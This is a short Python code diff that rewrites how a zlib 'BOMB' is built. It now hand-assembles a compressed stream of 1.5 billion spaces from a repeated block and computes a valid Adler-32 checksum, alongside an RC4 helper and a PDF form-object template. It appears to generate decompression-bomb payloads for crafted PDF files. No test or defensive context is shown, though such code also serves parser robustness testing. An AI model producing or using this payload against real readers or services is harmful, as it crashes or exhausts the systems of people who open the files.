@@ -94,7 +94,16 @@ def rc4(key: bytes, data: bytes) -> bytes:
     return bytes(out)
 
 
-BOMB = zlib.compress(b" " * 1_500_000_000, 1)
+def spaces(count: int) -> bytes:
+    """What zlib makes of so many million spaces: a million, packed once, as often; and the sum of them all (RFC 1950, Adler-32)."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
+    million = packer.compress(b" " * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
+    number = count * 1_000_000
+    sums = (number + 32 * number * (number + 1) // 2) % 65_521, (1 + 32 * number) % 65_521
+    return b"\x78\x01" + million * count + b"\x03\x00" + b"".join(one.to_bytes(2, "big") for one in sums)
+
+
+BOMB = spaces(1_500)
 FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</A %d 0 R>>/Font<</F 5 0 R>>>>"
 
 
